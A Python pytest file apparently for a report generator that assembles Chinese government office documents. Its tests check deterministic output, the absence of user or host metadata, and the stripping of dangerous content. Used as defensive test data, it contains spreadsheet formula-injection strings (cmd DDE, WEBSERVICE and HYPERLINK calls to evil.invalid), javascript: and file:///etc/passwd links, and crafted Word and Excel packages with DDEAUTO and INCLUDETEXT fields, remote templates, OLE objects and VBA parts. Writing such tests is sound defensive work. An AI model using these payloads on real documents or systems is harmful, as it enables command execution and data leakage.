"""All files that the program writes (写出的各种文件): the same bytes, nothing of this machine, no formula, no link."""

from __future__ import annotations

import io
import json
import os
import re
import socket
import subprocess
import sys
import zipfile
from collections.abc import Iterator, Mapping, Sequence
from concurrent.futures import ThreadPoolExecutor
from datetime import date
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from lxml import etree, html
from openpyxl import load_workbook

from reportgen.collect import Request, collect
from tests.all_files import an_office, written
from tests.ledger_files import repacked, workbook
from tests.projects import ROOT
from tests.reliability.tally import Tally
from tests.test_collect import CANTEEN, office
from tests.word_returns import complex_field, p, run, t, tbl, tr, word_return

FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|'/c calc'!A0", '=HYPERLINK("http://evil.invalid","点")']
FORMULAS += ['=WEBSERVICE("http://evil.invalid")', "=IMPORTXML(1)", "\t=1+1", "\n=1+1", "＝1+1", "＠A1", "－1", "＋1"]
FORMULAS += ["'=1+1", '"=1+1"', ";=1+1", ",=1+1", "=DDE(1)", "%0A=1+1"]
LINKS = [
    "javascript:alert(1)",
    "file:///etc/passwd",
    "//evil.invalid/a",
    "http://evil.invalid/b",
    "mailto:a@evil.invalid",
]
USER, HOST = "zhangsan-of-this-machine", "host-of-this-machine"


def members(name: str, blob: bytes) -> Iterator[tuple[str, bytes]]:
    """A file and all that is packed in it."""
    yield name, blob
    if blob.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(blob)) as package:
            for part in package.infolist():
                assert part.date_time == (1980, 1, 1, 0, 0, 0), (name, part.filename)
                assert not part.comment + part.extra, (name, part.filename)
                yield from members(f"{name}/{part.filename}", package.read(part))


@pytest.fixture(scope="module")
def files(tmp_path_factory: pytest.TempPathFactory) -> Mapping[str, bytes]:
    """All files of an office whose ledger is full of formulas and links, made by somebody on some machine."""
    place = tmp_path_factory.mktemp("此机此人")
    with pytest.MonkeyPatch.context() as patch:
        for name in ("USER", "LOGNAME", "USERNAME", "LNAME"):
            patch.setenv(name, USER)
        patch.setattr(socket, "gethostname", lambda: HOST)
        an_office(place, [*FORMULAS, *LINKS])
        found = {name: path.read_bytes() for name, path in written(place, place / "out").items()}
    return found | {"": str(place).encode()}


def of_kind(files: Mapping[str, bytes], ending: str) -> dict[str, bytes]:
    found = {name: blob for name, blob in files.items() if name.endswith(ending)}
    packed = (dict(members(name, blob)) for name, blob in files.items() if name.endswith(".zip"))
    for each in packed:
        found |= {name: blob for name, blob in each.items() if name.endswith(ending)}
    return found


def test_every_command_has_written_its_files(files: Mapping[str, bytes]) -> None:
    kinds = {
        ending: len(of_kind(files, ending)) for ending in (".docx", ".pdf", ".xlsx", ".html", ".zip", ".json", ".txt")
    }
    assert kinds == {".docx": 9, ".pdf": 8, ".xlsx": 10, ".html": 5, ".zip": 1, ".json": 4, ".txt": 3}


@pytest.mark.row("C4")
def test_no_text_is_a_formula_in_any_workbook_that_is_written(files: Mapping[str, bytes], tally: Tally) -> None:
    books = of_kind(files, ".xlsx")
    for name, blob in books.items():
        for part, data in members(name, blob):
            if "/worksheets/" in part or part.endswith("workbook.xml"):
                assert not re.search(rb"<(?:\w+:)?(?:f|ddeLink|oleLink)[\s>/]", data), part
        cells = [cell for sheet in load_workbook(io.BytesIO(blob)) for line in sheet.iter_rows() for cell in line]
        assert {cell.data_type for cell in cells} <= {"s", "n", "inlineStr"}, name
        said = "\n".join(str(cell.value) for cell in cells)
        # A form is for one unit, an index counts: those have none or some of the texts.
        if name in ("汇总.xlsx", "校核.xlsx", "研判.xlsx", "导入.xlsx", "变化.xlsx"):
            assert [each for each in FORMULAS if each.strip() not in said] == [], name
            tally.survived(len(FORMULAS))


@pytest.mark.row("D3")
def test_no_text_is_a_link_in_any_file(files: Mapping[str, bytes], tally: Tally) -> None:
    for name, blob in of_kind(files, ".pdf").items():
        with pikepdf.open(io.BytesIO(blob)) as pdf:
            actions = [each for each in pdf.objects if isinstance(each, pikepdf.Dictionary) and "/S" in each]
            kinds = {str(each.S) for each in actions if isinstance(each.S, pikepdf.Name)}
            assert not kinds & {"/URI", "/Launch", "/JavaScript", "/GoToR", "/SubmitForm", "/ImportData"}, name
            assert not {"/AA", "/OpenAction", "/AcroForm"} & set(pdf.Root.keys()), name
            assert "/EmbeddedFiles" not in pdf.Root.get("/Names", {}), name
    for name, blob in of_kind(files, ".html").items():
        page: Any = html.document_fromstring(blob)
        led = [value for _, _, value, _ in page.iterlinks()]
        assert [link for link in led if not re.match(r"#|data:image/|\w[\w./%-]*\.(?:docx|pdf|xlsx)$", link)] == [], (
            name
        )
    packages = {**of_kind(files, ".docx"), **of_kind(files, ".xlsx")}
    for name, blob in packages.items():
        for part, data in members(name, blob):
            if part.endswith(".rels"):
                outside = [each for each in etree.fromstring(data) if each.get("TargetMode") == "External"]
                # The index of a set leads to the files beside it.
                assert [each.get("Target") for each in outside if not _is_beside(name, each)] == [], part
    tally.survived(len(LINKS))


def _is_beside(name: str, relation: Any) -> bool:
    return name.endswith("index.xlsx") and bool(re.fullmatch(r"[^/:\\]+\.(?:docx|pdf)", relation.get("Target")))


@pytest.mark.row("D4")
def test_no_file_knows_user_machine_folder_or_clock(files: Mapping[str, bytes], tally: Tally) -> None:
    place = files[""].decode()
    today = date.today().isoformat()
    strange = [USER, HOST, place, str(ROOT), os.path.expanduser("~") + "/", "python-docx", "openpyxl"]
    spelled = [word.encode(code) for word in (*strange, f"{today}T") for code in ("utf-8", "utf-16-le", "utf-16-be")]
    for name, blob in files.items():
        if not name:
            continue
        for part, data in members(name, blob):
            assert [word for word in spelled if word in data] == [], part
        if name.endswith(".pdf"):
            with pikepdf.open(io.BytesIO(blob)) as pdf:
                told = dict(pdf.docinfo.items())
                assert not {"/CreationDate", "/ModDate"} & told.keys(), name
                assert set(told) <= {"/Title", "/Author", "/Producer", "/Creator"}, name
                assert str(told["/Author"]) == "某区人民政府督查室", name
                for stream in (each for each in pdf.objects if isinstance(each, pikepdf.Stream)):
                    plain = stream.read_bytes() if "/Subtype" not in stream or stream.Subtype != "/Image" else b""
                    assert [word for word in spelled if word in plain] == [], name
        if name.endswith((".docx", ".xlsx")):
            core = dict(members(name, blob)).get(f"{name}/docProps/core.xml", b"")
            said = {etree.QName(each).localname: each.text for each in etree.fromstring(core)} if core else {}
            assert said.get("creator") in ("某区人民政府督查室", "reportgen", None), (name, said)
            assert not {"lastModifiedBy", "lastPrinted"} & said.keys(), (name, said)
        tally.survived()


# ---- the same bytes

TIMES = 20


def _made_by_another(place: Path, seed: str, locale: str) -> dict[str, list[str]]:
    """The fingerprints of all files as another process makes them, in another zone and folder."""
    place.mkdir()
    zone = ("Asia/Shanghai", "America/New_York", "UTC")[int(place.name) % 3]
    around = {**os.environ, "PYTHONHASHSEED": seed, "LC_ALL": locale, "LANG": locale, "TZ": zone, "PYTHONUTF8": "1"}
    command = [sys.executable, "-m", "tests.all_files", str(place), str(TIMES)]
    done = subprocess.run(command, cwd=ROOT, env=around, capture_output=True, text=True, encoding="utf-8")
    assert done.returncode == 0, done.stderr
    digests: dict[str, list[str]] = json.loads(done.stdout)
    return digests


@pytest.mark.campaign
@pytest.mark.row("D1")
def test_all_files_have_the_same_bytes_in_any_process_with_any_seed_and_locale(tmp_path: Path, tally: Tally) -> None:
    """The report twenty times in each process, everything else once in each: 3 × 2 × 2 processes."""
    found: dict[str, set[str]] = {}
    around = [(seed, locale) for seed in "07" for locale in ("C", "C.UTF-8") for _ in range(3)]
    with ThreadPoolExecutor(max_workers=2) as pool:
        for digests in pool.map(lambda each: _made_by_another(tmp_path / str(each[0]), *each[1]), enumerate(around)):
            for name, some in digests.items():
                found.setdefault(name, set()).update(some)
    assert len(found) > 30
    assert {name: len(digests) for name, digests in found.items() if len(digests) > 1} == {}
    reports = sum(name.startswith(("weasyprint", "typst")) for name in found)
    tally.survived(12 * (len(found) - reports + reports * TIMES))


# ---- what returns bring along

EVIL = "evil-host.invalid"
HEAD = ["序号", "工作任务", "责任单位", "进展情况", "推进情况"]
TABLE = tbl(tr(*HEAD), tr("1", CANTEEN, "区民政局", "已建成2个。", "正常推进"))
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_VBA = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"


def _related(blob: bytes, to: str, kind: str, target: str, outside: bool = True, part: bytes | None = None) -> bytes:
    """The package with one more relation of a part, and what it leads to where that is inside."""
    folder, _, base = to.rpartition("/")
    rels = f"{folder}/_rels/{base}.rels"
    mode = ' TargetMode="External"' if outside else ""
    more = f'<Relationship Id="evil" Type="{kind}" Target="{target}"{mode}/></Relationships>'.encode()
    empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    with zipfile.ZipFile(io.BytesIO(blob)) as package:
        has = rels in package.namelist()
    parts = [] if has else [(rels, empty.replace(b"</Relationships>", more))]
    parts += [(f"{folder}/{target}", part)] if part is not None else []
    return repacked(
        blob,
        lambda name, data: re.sub(rb"</Relationships>|(?<=[\w\"])/>\s*$", more, data) if name == rels else data,
        parts=parts,
    )


def word_files() -> dict[str, bytes]:
    """Returns in Word with what must not go on."""
    text, main, inside = word_return(TABLE), "word/document.xml", f"x {EVIL} x".encode()
    fields = (f'DDEAUTO c:\\\\a "{EVIL}"', f'INCLUDETEXT "http://{EVIL}/a.docx"', f'INCLUDEPICTURE "//{EVIL}/a.png"')
    shown = [word_return(TABLE + p(complex_field(each.replace('"', "&quot;"), t("说明")))) for each in fields]
    return {
        "模板": _related(word_return(TABLE, {"settings": '<w:attachedTemplate r:id="evil"/>'}), "word/settings.xml",
                       f"{_OFFICE}/attachedTemplate", f"http://{EVIL}/a.dotm"),
        "图片": _related(text, main, f"{_OFFICE}/image", f"file://{EVIL}/a.png"),
        "链接": _related(text, main, f"{_OFFICE}/hyperlink", f"http://{EVIL}/"),
        "对象": _related(text, main, f"{_OFFICE}/oleObject", f"http://{EVIL}/a.bin"),
        "嵌入": _related(text, main, f"{_OFFICE}/package", "embedded.bin", outside=False, part=inside),
        "宏": _related(text, main, _VBA, "vbaProject.bin", outside=False, part=inside),
        "框架": _related(text, main, f"{_OFFICE}/frame", f"http://{EVIL}/a.htm"),
        "别的文件": _related(word_return(TABLE + '<w:altChunk r:id="evil"/>'), main, f"{_OFFICE}/aFChunk", "chunk.htm",
                         outside=False, part=inside),
        "子文档": _related(word_return(TABLE + p(run('<w:subDoc r:id="evil"/>'))), main, f"{_OFFICE}/subDocument",
                        f"file://{EVIL}/b.docx"),
        **{each.partition(" ")[0]: blob for each, blob in zip(fields, shown, strict=True)},
    }  # fmt: skip


def workbooks() -> dict[str, bytes]:
    """Returns in Excel with what must not go on."""
    rows = [HEAD, ["1", CANTEEN, "区民政局", "已建成2个。", "正常推进"]]
    plain, main, inside = workbook({"重点任务": rows}), "xl/workbook.xml", f"<x>{EVIL}</x>".encode()

    def linked(book: Any) -> None:
        book.active["B2"].hyperlink = f"http://{EVIL}/"

    return {
        "宏": _related(plain, main, _VBA, "vbaProject.bin", outside=False, part=inside),
        "外部链接": _related(plain, main, f"{_OFFICE}/externalLink", "externalLink1.xml", outside=False, part=inside),
        "连接": _related(plain, main, f"{_OFFICE}/connections", "connections.xml", outside=False, part=inside),
        "对象": _related(plain, "xl/worksheets/sheet1.xml", f"{_OFFICE}/oleObject", f"file://{EVIL}/a"),
        "链接": workbook({"重点任务": rows}, linked),
    }


@pytest.mark.row("D2")
def test_of_what_a_return_brings_along_only_its_texts_go_on(tmp_path: Path, tally: Tally) -> None:
    config = office(tmp_path)
    made: Sequence[tuple[str, bytes]] = [
        *((f"区民政局{name}.docx", blob) for name, blob in word_files().items()),
        *((f"区民政局{name}.xlsx", blob) for name, blob in workbooks().items()),
    ]
    for name, blob in made:
        assert any(EVIL.encode() in data for _, data in _unpacked(blob)), name
        (tmp_path / name).write_bytes(blob)
    returns = tuple(tmp_path / name for name, _ in made)
    collected = collect(Request(config=config, returns=returns, into=tmp_path / "汇总.xlsx", on=date(2026, 7, 8)))
    assert collected.workbook
    parts = dict(members("汇总.xlsx", collected.workbook))
    assert [part for part, data in parts.items() if EVIL.encode() in data] == []
    assert [part for part in parts if re.search("vba|external|connections|embeddings|oleObject", part)] == []
    assert not any(b"TargetMode" in data for part, data in parts.items() if part.endswith(".rels"))
    assert b"xlsm" not in b"".join(parts.values())
    returned = collected.collection.record.returns
    assert len(returned) == len(made)
    unread = {each.file: each.note for each in returned if not each.readable}
    assert {each.rows for each in returned if each.readable} == {1}
    # Text that stands in another file within the file would be lost: the return is refused, with its name.
    assert unread.keys() == {"区民政局别的文件.docx", "区民政局子文档.docx"}
    assert all(re.search("[\u4e00-\u9fff]", note) for note in unread.values())
    tally.refused(len(unread))
    tally.survived(len(made) - len(unread))


def _unpacked(blob: bytes) -> Iterator[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(blob)) as package:
        yield from ((name, package.read(name)) for name in package.namelist())
